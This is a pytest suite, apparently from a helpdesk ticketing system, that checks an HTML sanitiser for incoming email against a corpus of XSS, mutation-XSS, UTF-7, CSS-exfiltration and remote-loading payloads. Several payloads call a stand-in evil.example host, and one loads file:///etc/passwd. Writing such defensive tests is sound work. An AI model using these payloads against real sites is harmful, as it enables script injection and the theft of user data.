"""Classes A and M of the advisory catalogue: what strangers' HTML may not do (A-2, A-4, A-5, M-64)."""

import re
from html.parser import HTMLParser
from pathlib import Path

import pytest

from tickets.inbound.parse import parse_mail
from tickets.lib import html as cleaner
from tickets.lib.html import sanitise

MAILS = Path(__file__).resolve().parents[1] / "mail"

CORPUS = [
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<SCRIPT SRC=//evil.example/x.js>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src='x' id/=' onerror=alert(1)//'>",
    '<img """><script>alert(1)</script>">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) /><a>x</a></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    '<a href=" java\tscript:alert(1)">x</a>',
    '<a href="&#106;avascript&#58;alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="vbscript:x">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="/desk/logout/">x</a>',
    '<a href="//evil.example">x</a>',
    "<style>input[value^=a]{background:url(//evil.example/a)}</style>",
    "<style>@import '//evil.example'</style>",
    '<p style="background:url(//evil.example)">x</p>',
    '<p style="width:expression(alert(1))">x</p>',
    "<link rel=stylesheet href=//evil.example>",
    "<base href=//evil.example>",
    '<meta http-equiv=refresh content="0;url=//evil.example">',
    "<iframe src=//evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=//evil.example></object>",
    "<embed src=//evil.example>",
    "<form action=//evil.example><input name=password><button formaction=//e>x</button></form>",
    "<div id=content class=navbar name=csrf>x</div>",
    "<div hx-get=/desk/ hx-trigger=load>x</div>",
    "<div data-hx-post=/desk/ data-x=1>x</div>",
    "<video poster=//evil.example><source src=//evil.example></video>",
    "<table background=//evil.example><tr><td background=//evil.example>x</td></tr></table>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<!--[if IE]><script>alert(1)</script><![endif]--><b>x</b>",
    "<template><img src=x onerror=alert(1)></template>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<x style='behavior:url(x.htc)'><xml id=x src=x.htc></xml>",
    "<a href='https://x.nl' onclick=alert(1) target=_top ping=//evil.example>x</a>",
]


class Inspector(HTMLParser):
    """Everything that a browser would see in the cleaned HTML."""

    def __init__(self):
        super().__init__()
        self.tags = set()
        self.attributes = set()
        self.addresses = []

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        for name, value in attrs:
            self.attributes.add(name)
            if name in ("href", "src"):
                self.addresses.append(value)


def inspect(html: str) -> Inspector:
    inspector = Inspector()
    inspector.feed(html)
    inspector.close()
    return inspector


@pytest.mark.parametrize("payload", CORPUS)
def test_a4_only_the_allow_list_survives(payload):
    seen = inspect(sanitise(f"<div>{payload}<p>einde</p></div>").html)
    assert seen.tags <= cleaner.TAGS
    allowed = {name for names in cleaner.ATTRIBUTES.values() for name in names}
    assert seen.attributes <= allowed | {"rel"}
    assert not seen.attributes & {"style", "id", "name", "class"}
    assert [item for item in seen.addresses if not re.match("https?://|mailto:|tel:", item)] == []


@pytest.mark.parametrize("payload", CORPUS)
def test_a5_cleaning_twice_changes_nothing(payload):
    """What a reply quotes is cleaned again; the second time may not bring anything to life."""
    once = sanitise(payload).html
    assert sanitise(once, remote_images=True).html == once


@pytest.mark.parametrize("payload", CORPUS)
def test_a5_quote_cutting_brings_nothing_to_life(payload):
    raw = (
        "From: a@example.com\nContent-Type: text/html; charset=utf-8\n\n"
        f"<p>Ja</p>{payload}<div id=divRplyFwdMsg><b>Van:</b> x</div>{payload}"
    )
    seen = inspect(sanitise(parse_mail(raw.encode()).visible_html).html)
    assert seen.tags <= cleaner.TAGS
    assert [item for item in seen.attributes if item.startswith("on")] == []


def test_a5_utf7_cannot_smuggle_markup():
    raw = b"From: a@example.com\nContent-Type: text/html; charset=utf-7\n\n+ADw-script+AD4-alert(1)+ADw-/script+AD4-<b>x</b>"
    assert sanitise(parse_mail(raw).html).html == "<b>x</b>"


def test_a2_name_of_sender_is_text_without_control():
    raw = 'From: "<img src=//e onerror=x>\u202e" <a@example.com>\n\nx'.encode()
    assert parse_mail(raw).from_name == "<img src=//e onerror=x>"


@pytest.mark.parametrize(
    "tag",
    [
        '<img src="https://evil.example/p">',
        '<img src="HTTPS://evil.example/p">',
        '<img src="//evil.example/p">',
        '<img src="http:/evil.example/p">',
        '<img src="http:\\\\evil.example/p">',
        '<img src="\thttps://evil.example/p">',
        '<img src="ht\ntps://evil.example/p">',
        '<img src="/api/../desk/logout/">',
        '<img src="/\\evil.example/p">',
        '<img src=x srcset="https://evil.example/p 2x">',
        '<picture><source srcset="https://evil.example/p"><img></picture>',
        '<video poster="https://evil.example/p"></video>',
        '<td background="https://evil.example/p">',
        '<p style="background-image:url(https://evil.example/p)">',
        '<input type=image src="https://evil.example/p">',
        '<svg><image href="https://evil.example/p"/></svg>',
        '<link rel=prefetch href="https://evil.example/p">',
        '<img src="file:///etc/passwd">',
    ],
)
def test_m64_nothing_remote_is_loaded_by_itself(tag):
    seen = inspect(sanitise(f"<table><tr>{tag}</tr></table>").html)
    assert seen.addresses == []


def test_hostile_mail_keeps_its_words():
    mail = parse_mail((MAILS / "hostile_html.eml").read_bytes())
    assert sanitise(mail.html).html.startswith("<p>Tekst<img>")
    assert mail.text == "Tekstklik"
